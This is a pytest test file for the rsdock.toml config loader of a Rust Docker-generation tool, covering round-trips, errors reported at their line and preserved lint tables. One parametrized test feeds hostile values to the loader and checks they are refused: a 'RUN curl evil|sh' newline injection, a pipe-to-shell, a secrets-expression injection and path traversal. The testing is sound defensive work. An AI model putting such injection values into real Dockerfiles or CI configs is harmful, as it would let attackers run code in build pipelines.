"""rsdock.toml: loading, located errors, the stable emitter and the preserved [lint] tables."""

from __future__ import annotations

import json
import tomllib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rsdock.errors import UserError
from rsdock.wizard.generate import answers as config
from rsdock.wizard.generate.plan import Image, Plan, Triggers

PLAN = Plan(
    images=(
        Image("server", "bin", "server", "Dockerfile", "crates/server"),
        Image("web", "web", "web", "Dockerfile.web", "web", image="ghcr.io/acme/web"),
    ),
    platforms=("linux/amd64", "linux/arm64"),
    runtime="distroless",
    cache="registry",
    registry="ghcr",
    rust_version="1.86.0",
    triggers=Triggers(branches=("main", "release"), tags=False, pull_requests=True),
    pin_actions="tag",
)
TEXT = config.dumps(PLAN)
LINT = (
    "[lint]\n"
    "ignore = [ \"RS101\" ,'RS202']   # odd spacing on purpose\n"
    "\n"
    "[lint.rules.RS301]\n"
    "severity='info'\n"
)


def line_of(text: str, needle: str, nth: int = 1) -> int:
    """The 1-based number of the nth line containing ``needle``."""
    hits = [n for n, line in enumerate(text.splitlines(), 1) if needle in line]
    return hits[nth - 1]


def test_round_trip_keeps_the_plan_and_the_bytes():
    assert config.loads(TEXT) == PLAN
    assert config.dumps(config.loads(TEXT)) == TEXT


def test_defaults_fill_missing_keys():
    text = '[[image]]\nname = "a"\nkind = "bin"\npackage = "a"\ndockerfile = "Dockerfile"\n'
    plan = config.loads(text)
    # signing and updates: a file without them predates them, and rendered neither (#25).
    assert plan == Plan(images=(Image("a", "bin", "a", "Dockerfile"),), signing="none",
                        updates="none")


def test_emitted_text_is_commented_and_valid_toml():
    data = tomllib.loads(TEXT)
    assert data["platforms"] == ["linux/amd64", "linux/arm64"]
    assert data["ci"] == {"branches": ["main", "release"], "tags": False, "pull-requests": True}
    assert data["image"][1]["image"] == "ghcr.io/acme/web"
    assert "image" not in data["image"][0]  # an empty image reference is left out
    assert TEXT.startswith("# rsdock.toml")


def test_lint_tables_are_kept_byte_for_byte():
    previous = TEXT + "\n" + LINT
    saved = config.dumps(PLAN, previous)
    assert saved.endswith(LINT)
    assert saved == previous
    changed = config.dumps(PLAN.with_changes(runtime="debian-slim"), previous)
    assert changed.endswith(LINT)
    assert config.loads(changed).runtime == "debian-slim"


def test_lint_table_in_the_middle_moves_to_the_end_verbatim():
    middle = TEXT.replace("[ci]", LINT + "\n[ci]")
    saved = config.dumps(PLAN, middle)
    assert saved == TEXT + "\n" + LINT + "\n"
    assert config.loads(middle) == PLAN


def test_lint_header_inside_a_multiline_string_is_not_a_table():
    previous = TEXT + '\n[lint]\nnote = """\n[ci]\nnot a header\n"""\n'
    saved = config.dumps(PLAN, previous)
    assert saved == previous


def test_lint_as_dotted_keys_cannot_be_kept():
    previous = 'lint.ignore = ["RS101"]\n' + TEXT
    with pytest.raises(UserError) as info:
        config.dumps(PLAN, previous)
    assert info.value.line == 1
    assert "[lint]" in info.value.hint


def test_save_and_load_through_the_disk(tmp_path):
    (tmp_path / "rsdock.toml").write_text(TEXT + "\n" + LINT)
    config.save(tmp_path, PLAN.with_changes(cache="gha"))
    text = (tmp_path / "rsdock.toml").read_text()
    assert text.endswith(LINT)
    assert config.load(tmp_path) == PLAN.with_changes(cache="gha")


def test_save_of_load_is_stable_on_disk(tmp_path):
    (tmp_path / "rsdock.toml").write_text(TEXT + "\n" + LINT)
    config.save(tmp_path, config.load(tmp_path))
    first = (tmp_path / "rsdock.toml").read_bytes()
    config.save(tmp_path, config.load(tmp_path))
    assert (tmp_path / "rsdock.toml").read_bytes() == first == (TEXT + "\n" + LINT).encode()


def test_missing_file_is_a_located_error(tmp_path):
    with pytest.raises(UserError) as info:
        config.load(tmp_path)
    assert info.value.path == str(tmp_path / "rsdock.toml")
    assert "rsdock init" in info.value.hint


@pytest.mark.parametrize(
    ("edit", "needle", "nth", "message", "hint"),
    [
        (('runtime = "distroless"', 'runtime = "busybox"'), "runtime =", 1,
         "unknown runtime 'busybox'", "debian-slim"),
        (('rust-version = "1.86.0"', "rust-version = 1.86"), "rust-version", 1,
         "rust-version must be a string, not a float", 'quote it'),
        (('rust-version = "1.86.0"', 'rust-version = "stable"'), "rust-version", 1,
         "'stable' is not a Rust version", "major.minor"),
        (("tags = false", 'tags = "no"'), "tags =", 1, "ci.tags must be true or false", "true"),
        (("tags = false", 'tag = false'), "tag =", 1, "unknown key 'tag' in [ci]", "branches"),
        (('platforms = ["linux/amd64", "linux/arm64"]', 'platforms = "linux/amd64"'),
         "platforms =", 1, "platforms must be a list of strings", "["),
        (('platforms = ["linux/amd64", "linux/arm64"]', 'platforms = ["linux/sparc"]'),
         "platforms =", 1, "'linux/sparc' is not a platform", "linux/amd64"),
        (('kind = "web"', 'kind = "wasm"'), 'kind = "wasm"', 1, "unknown kind 'wasm'", "'web'"),
        (('dockerfile = "Dockerfile.web"', 'dockerfile = "Dockerfile"'), 'dockerfile =', 2,
         "shares the Dockerfile Dockerfile with bin image 'server'", "of its own"),
        (('package-dir = "web"', 'pkg-dir = "web"'), "pkg-dir", 1,
         "unknown key 'pkg-dir' in [[image]]", "package-dir"),
        (('package = "web"\n', ""), "[[image]]", 2, "[[image]] number 2 has no package",
         'package = "..."'),
        (('cache = "registry"', 'cache = "registry"\ncolour = "blue"'), "colour", 1,
         "unknown key 'colour'", "rust-version"),
        (("[ci]", "[cii]"), "[cii]", 1, "unknown key 'cii'", "ci"),
        (('name = "server"', 'name = "server'), 'name = "server', 1, "not valid TOML", "toml.io"),
    ],
)
def test_bad_values_are_located(edit, needle, nth, message, hint):
    text = TEXT.replace(*edit, 1)
    assert text != TEXT
    with pytest.raises(UserError) as info:
        config.loads(text, "ws/rsdock.toml")
    error = info.value
    assert error.path == "ws/rsdock.toml"
    assert error.line == line_of(text, needle, nth), error.format()
    assert message in error.message
    assert hint in error.hint
    assert error.format().startswith(f"ws/rsdock.toml:{error.line}: error: ")


def test_every_plan_problem_is_reported():
    text = TEXT.replace('runtime = "distroless"', 'runtime = "x"').replace('cache = "registry"',
                                                                           'cache = "y"')
    with pytest.raises(UserError) as info:
        config.loads(text)
    assert "unknown runtime 'x'" in info.value.message
    assert "cache: unknown cache 'y'; choose one of" in info.value.message


_names = st.from_regex(r"[a-z][a-z0-9_-]{0,8}", fullmatch=True).filter(
    lambda n: n not in ("build", "deps", "examples", "incremental"))
_paths = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=12)
# Package folders rsdock can write into a Dockerfile unquoted (others are refused, tested below).
_dirs = st.from_regex(r"[A-Za-z0-9_+@-][A-Za-z0-9_.+@-]{0,6}(/[A-Za-z0-9_+@-]{1,6})?",
                      fullmatch=True)


@settings(max_examples=60, deadline=None)
@given(
    names=st.lists(_names, min_size=1, max_size=3, unique=True),
    dirs=st.lists(_dirs, min_size=3, max_size=3),
    branches=st.lists(_paths, max_size=3),
    tags=st.booleans(),
    pull_requests=st.booleans(),
)
def test_round_trip_any_plan(names, dirs, branches, tags, pull_requests):
    images = tuple(
        Image(n, "bin", n, "Dockerfile" if i == 0 else f"Dockerfile.{n}", dirs[i])
        for i, n in enumerate(names)
    )
    plan = Plan(images=images, triggers=Triggers(tuple(branches) or ("main",), tags,
                                                 pull_requests))
    text = config.dumps(plan)
    assert config.loads(text) == plan
    assert config.dumps(config.loads(text)) == text


@pytest.mark.parametrize("key, value, message", [
    ("package-dir", "web\nRUN curl evil|sh", "contains a newline or control character"),
    ("package-dir", "a b", "would need quoting"),
    ("package-dir", "../outside", "leaves the workspace"),
    ("package", "web\nRUN curl evil|sh", "is not one cargo accepts"),
    ("package", "1abc", "cannot start with a digit"),
    ("name", "build", "conflicts with cargo's build directory names"),
    ("name", "a.b", "crate names take letters"),
    ("dockerfile", "Dockerfile\nRUN x", "contains a newline"),
    ("image", "acme/server|sh", "is not a valid name component"),
    ("image", "acme/server\"", "is not a valid name component"),
    ("image", "${{ secrets.X || 'a' }}/server", "no operators, functions or quotes"),
    ("image", "${{ vars.X }}/server sh", "contains a space"),
    ("image", "acme/Server", "has uppercase letters"),
    ("image", "acme/server:1.0", "has a tag"),
])
def test_hostile_image_values_are_refused_at_their_line(key, value, message):
    fields = {"name": "server", "kind": "bin", "package": "server", "dockerfile": "Dockerfile",
              "package-dir": "crates/server"}
    fields[key] = value
    text = "[[image]]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in fields.items())
    with pytest.raises(UserError) as info:
        config.loads(text)
    assert message in info.value.message
    assert info.value.line == list(fields).index(key) + 2
    assert "\n" not in info.value.message  # a value is shown escaped, never raw


def test_load_and_save_refuse_an_unreadable_file_with_a_located_error(tmp_path):
    (tmp_path / "rsdock.toml").write_bytes(b"cache = \"gha\xff\"\n")
    for call in (lambda: config.load(tmp_path), lambda: config.save(tmp_path, PLAN)):
        with pytest.raises(UserError) as info:
            call()
        assert info.value.message.startswith("cannot read rsdock.toml")
        assert info.value.path == str(tmp_path / "rsdock.toml")
        assert "UTF-8" in info.value.hint
    assert (tmp_path / "rsdock.toml").read_bytes() == b"cache = \"gha\xff\"\n"


def test_read_text_is_none_without_a_file(tmp_path):
    assert config.read_text(tmp_path) is None
    with pytest.raises(UserError, match="no rsdock.toml"):
        config.load(tmp_path)


@pytest.mark.parametrize(("edit", "needle", "nth", "message"), [
    # The duplicate is the second table, so that is where the error points.
    (('name = "web"', 'name = "server"'), 'name = "server"', 2, "chosen twice"),
    (('image = "ghcr.io/acme/web"', 'image = "ghcr.io/acme/web@latest"'), "image =", 1,
     "has a tag"),
    (('image = "ghcr.io/acme/web"', 'image = "ghcr.io/Acme/web"'), "image =", 1,
     "'Acme' in 'ghcr.io/Acme/web' has uppercase letters"),
    (('dockerfile = "Dockerfile.web"', 'dockerfile = "../Dockerfile.web"'), "dockerfile =", 2,
     "leaves the workspace"),
])
def test_image_problems_are_located_at_their_key_in_their_table(edit, needle, nth, message):
    text = TEXT.replace(*edit, 1)
    assert text != TEXT
    with pytest.raises(UserError) as info:
        config.loads(text)
    assert message in info.value.message
    assert info.value.line == line_of(text, needle, nth), info.value.format()
